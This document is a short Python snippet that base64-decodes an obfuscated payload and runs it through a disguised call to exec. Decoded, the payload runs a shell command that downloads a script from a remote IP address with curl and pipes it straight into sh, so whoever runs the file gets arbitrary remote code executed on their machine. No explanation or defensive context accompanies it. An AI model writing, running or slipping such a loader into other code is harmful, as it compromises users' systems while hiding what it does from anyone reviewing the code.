import base64
payload = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vNDUuODguNjcuOTUveCB8IHNoJykK')
__builtins__.__dict__['exec'](payload)
